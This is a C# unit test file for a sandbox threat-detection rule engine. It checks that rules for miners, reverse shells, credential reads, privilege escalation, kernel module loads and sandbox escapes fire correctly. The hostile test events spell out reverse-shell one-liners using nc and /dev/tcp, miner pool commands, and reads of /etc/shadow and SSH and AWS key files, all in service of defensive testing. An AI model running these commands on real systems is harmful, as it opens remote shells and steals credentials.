using Sandstorm.Shield;

namespace Sandstorm.Shield.Tests;

public sealed class DefaultRulesTests
{
    private static readonly RuleEngine Engine = RuleEngine.For(null);

    public static TheoryData<string, ShieldEvent> Hostile => new()
    {
        { "Crypto miner pool connection", Events.Connect("203.0.113.7", 3333, egressAllowed: true) },
        { "Crypto miner pool connection", Events.Exec("/tmp/xmrig", "xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ") },
        { "Crypto miner pool connection", Events.Exec("/usr/bin/python3", "python3 miner.py --url stratum+tcp://eu.pool.example:14444") },
        { "Reverse shell", Events.Exec("/bin/sh", "/bin/sh -i", stdin: "ipv4", stdout: "ipv4") },
        { "Reverse shell", Events.Exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444") },
        { "Reverse shell", Events.Exec("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") },
        { "Read of credentials", Events.Open("/etc/shadow") },
        { "Read of credentials", Events.Open("/root/.ssh/id_rsa") },
        { "Read of credentials", Events.Open("/home/user/.aws/credentials") },
        { "Read of credentials", Events.Open(".ssh/id_ed25519") },
        { "Privilege escalation attempt", Events.Syscall("setuid", ("uid", "0")) },
        { "Privilege escalation attempt", Events.Syscall("setresgid", ("gid", "0")) },
        { "Privilege escalation attempt", Events.Syscall("capset") },
        { "Privilege escalation attempt", Events.Exec("/usr/bin/sudo", "sudo -n id") },
        { "Kernel module load", Events.Syscall("finit_module") },
        { "Kernel module load", Events.Exec("/usr/sbin/insmod", "insmod rootkit.ko") },
        { "Ptrace of another process", Events.Syscall("ptrace", ("request", "PTRACE_ATTACH"), ("pid", "1")) },
        { "Ptrace of another process", Events.Syscall("ptrace") with { Direction = "<", Result = "EPERM" } },
        { "Outbound connection with egress denied", Events.Connect("192.0.2.10", 443, egressAllowed: false) },
        { "Sandbox escape attempt", Events.Syscall("unshare", ("flags", "131072")) },
        { "Sandbox escape attempt", Events.Syscall("mount") },
        { "Fork storm", Events.ForkStorm(5000) },
    };

    public static TheoryData<ShieldEvent> Benign => new()
    {
        Events.Exec("/usr/bin/python3", "python3 -u /scratch/main.py"),
        Events.Exec("/usr/bin/ls", "ls -la /scratch"),
        Events.Exec("/bin/sh", "/bin/sh -c echo hello"),
        Events.Exec("/bin/bash", "bash /scratch/main.sh", stdin: "file", stdout: "pipe"),
        Events.Open("/usr/lib/python3.11/json/__init__.py"),
        Events.Open("/scratch/data.csv"),
        Events.Open("/etc/passwd"),
        Events.Open("/etc/ssh/ssh_config"),
        Events.Connect("127.0.0.1", 8080, egressAllowed: false),
        Events.Connect("192.0.2.10", 443, egressAllowed: true),
        Events.Syscall("setuid", ("uid", "65534")),
        Events.Syscall("ptrace", ("request", "PTRACE_TRACEME"), ("pid", "0")),
        Events.ForkStorm(120),
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Evaluate_HostileEvent_FiresItsRule(string rule, ShieldEvent e)
    {
        var findings = Engine.Evaluate(e);

        var finding = Assert.Single(findings, f => f.Rule == rule);
        Assert.True(finding.Priority.IsAtLeast(Priority.Critical));
        Assert.Equal("ss0123456789abcdef", finding.SandboxId);
        Assert.Contains("ss0123456789abcdef", finding.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("%", finding.Output, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Benign))]
    public void Evaluate_BenignEvent_FiresNothing(ShieldEvent e)
    {
        Assert.Empty(Engine.Evaluate(e));
    }

    [Fact]
    public void Default_EveryRule_HasAHostileCase()
    {
        var covered = Hostile.Select(row => (string)row[0]).ToHashSet();

        Assert.All(ShieldRules.Default.Rules, r => Assert.Contains(r.Name, covered));
        Assert.All(ShieldRules.Default.Rules, r => Assert.True(r.Priority.IsAtLeast(Priority.Critical), r.Name));
    }

    [Fact]
    public void Evaluate_ReverseShell_RendersOutputFields()
    {
        var finding = Engine.Evaluate(Events.Exec("/bin/sh", "/bin/sh -i", stdin: "ipv4", stdout: "ipv4")).Single();

        Assert.Equal("Reverse shell (command=/bin/sh -i stdin=ipv4 stdout=ipv4 parent=python3 sandbox=ss0123456789abcdef)", finding.Output);
        Assert.Equal("ipv4", finding.OutputFields["proc.stdin.type"]);
        Assert.Contains("T1059", finding.Tags);
    }
}
